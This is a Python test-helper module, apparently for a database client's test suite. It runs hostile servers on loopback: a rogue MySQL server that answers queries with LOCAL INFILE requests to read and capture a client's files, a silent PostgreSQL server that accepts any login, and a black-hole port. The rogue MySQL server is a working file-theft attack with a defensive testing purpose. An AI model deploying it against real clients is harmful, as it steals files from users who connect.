"""Hostile database servers on loopback: a rogue MySQL server that asks for local files, and one that hangs."""

from __future__ import annotations

import socket
import socketserver
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

# Capabilities a MySQL 5.7 server announces (no SSL, so the client stays in clear text).
_CAPABILITIES = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000
_STATUS_AUTOCOMMIT = 0x0002


def _packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload


def _lenenc(data: bytes) -> bytes:
    assert len(data) < 251
    return bytes([len(data)]) + data


def _handshake() -> bytes:
    salt = b"12345678abcdefghijkl"
    return (b"\x0a" + b"5.7.42-rogue\x00" + struct.pack("<I", 7) + salt[:8] + b"\x00"
            + struct.pack("<H", _CAPABILITIES & 0xFFFF) + b"\x21" + struct.pack("<H", _STATUS_AUTOCOMMIT)
            + struct.pack("<H", _CAPABILITIES >> 16) + bytes([21]) + b"\x00" * 10 + salt[8:] + b"\x00"
            + b"mysql_native_password\x00")


_OK = b"\x00\x00\x00" + struct.pack("<HH", _STATUS_AUTOCOMMIT, 0)
_EOF = b"\xfe" + struct.pack("<HH", 0, _STATUS_AUTOCOMMIT)


def _column(name: str) -> bytes:
    return (_lenenc(b"def") + _lenenc(b"") + _lenenc(b"") + _lenenc(b"") + _lenenc(name.encode())
            + _lenenc(name.encode()) + b"\x0c" + struct.pack("<HIBHB", 33, 255, 0xFD, 0, 0) + b"\x00\x00")


def _result_set(columns: list[str], rows: list[list[str]]) -> list[bytes]:
    payloads = [bytes([len(columns)]), *(_column(c) for c in columns), _EOF]
    payloads += [b"".join(_lenenc(v.encode()) for v in row) for row in rows]
    return [*payloads, _EOF]


class RogueMysql:
    """A MySQL server that answers a query with a LOCAL INFILE request for `steal` (the classic attack).

    mode "first": every query (after the client's SET NAMES) is answered with the request (the client
    never gets to load anything); "load": setup queries get plausible answers and only LOAD DATA gets
    the request (another name than the one the client asked to send); "silent": setup answered, then
    the server never answers again.
    `received` holds every byte the client sent after a file request.
    """

    def __init__(self, steal: str, mode: str = "first") -> None:
        self.steal = steal
        self.mode = mode
        self.requests = 0
        self.received: list[bytes] = []
        self.queries: list[str] = []
        self._lock = threading.Lock()
        rogue = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                with suppress(OSError, ConnectionError):
                    rogue._serve(self.request)

        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = int(self._server.server_address[1])

    # --- the protocol ----------------------------------------------------------------------------
    @staticmethod
    def _read(sock: socket.socket) -> tuple[int, bytes]:
        header = _recv(sock, 4)
        length = int.from_bytes(header[:3], "little")
        return header[3], _recv(sock, length)

    def _serve(self, sock: socket.socket) -> None:
        sock.sendall(_packet(0, _handshake()))
        seq, _auth = self._read(sock)
        sock.sendall(_packet(seq + 1, _OK))
        while True:
            _seq, command = self._read(sock)
            if not command or command[0] == 0x01:  # COM_QUIT
                return
            if command[0] != 0x03:  # COM_PING and friends
                sock.sendall(_packet(1, _OK))
                continue
            query = command[1:].decode("utf-8", "replace")
            with self._lock:
                self.queries.append(query)
            self._answer(sock, query)

    def _answer(self, sock: socket.socket, query: str) -> None:
        upper = query.lstrip().upper()
        if upper.startswith(("SET NAMES", "SET AUTOCOMMIT")):  # read raw by PyMySQL's connect: a plain OK
            self._send(sock, [_OK])
        elif self.mode == "first" or (self.mode == "load" and upper.startswith("LOAD DATA")):
            self._ask_for_file(sock)
        elif upper.startswith("SELECT @@SESSION.SQL_MODE"):
            self._send(sock, _result_set(["sql_mode", "local_infile"], [["STRICT_TRANS_TABLES", "1"]]))
        elif upper.startswith("SELECT TABLE_NAME"):
            self._send(sock, _result_set(["TABLE_NAME"], []))
        elif upper.startswith("SHOW WARNINGS"):
            self._send(sock, _result_set(["Level", "Code", "Message"], []))
        elif self.mode == "silent" and upper.startswith(("CREATE", "LOAD", "INSERT", "ALTER")):
            threading.Event().wait(120)  # accept the statement, never answer it
        else:
            self._send(sock, [_OK])

    def _send(self, sock: socket.socket, payloads: list[bytes]) -> None:
        sock.sendall(b"".join(_packet(seq + 1, p) for seq, p in enumerate(payloads)))

    def _ask_for_file(self, sock: socket.socket) -> None:
        with self._lock:
            self.requests += 1
        sock.sendall(_packet(1, b"\xfb" + self.steal.encode()))
        content = b""
        while True:  # the client sends the file in packets, then an empty packet
            seq, chunk = self._read(sock)
            if not chunk:
                break
            content += chunk
        with self._lock:
            self.received.append(content)
        sock.sendall(_packet(seq + 1, _OK))

    def start(self) -> RogueMysql:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def _recv(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("client went away")
        data += chunk
    return data


@contextmanager
def rogue_mysql(steal: str, mode: str = "first") -> Iterator[RogueMysql]:
    server = RogueMysql(steal, mode).start()
    try:
        yield server
    finally:
        server.stop()


@contextmanager
def black_hole() -> Iterator[int]:
    """A TCP port on loopback that accepts connections and never says a word; yields the port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            with suppress(TimeoutError, OSError):
                held.append(listener.accept()[0])

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield int(listener.getsockname()[1])
    finally:
        stop.set()
        thread.join(2)
        for sock in held:
            sock.close()
        listener.close()


def closed_port() -> int:
    """A loopback port nothing listens on (bound and released)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _pg_message(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!I", len(body) + 4) + body


@contextmanager
def silent_postgres() -> Iterator[int]:
    """A PostgreSQL server that logs anyone in, then never answers a query; yields its port."""

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            sock: socket.socket = self.request
            with suppress(OSError, ConnectionError):
                while True:  # SSLRequest / GSSENCRequest (answered "no"), then the StartupMessage
                    length = struct.unpack("!I", _recv(sock, 4))[0]
                    code = struct.unpack("!I", _recv(sock, length - 4)[:4])[0]
                    if code in (80877103, 80877104):
                        sock.sendall(b"N")
                        continue
                    break
                parameters = {"server_version": "16.0", "client_encoding": "UTF8", "server_encoding": "UTF8",
                              "standard_conforming_strings": "on", "integer_datetimes": "on",
                              "DateStyle": "ISO, MDY"}
                sock.sendall(_pg_message(b"R", struct.pack("!I", 0))
                             + b"".join(_pg_message(b"S", f"{k}\0{v}\0".encode()) for k, v in parameters.items())
                             + _pg_message(b"K", struct.pack("!II", 42, 42)) + _pg_message(b"Z", b"I"))
                while sock.recv(65536):  # read queries, answer none
                    pass

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()
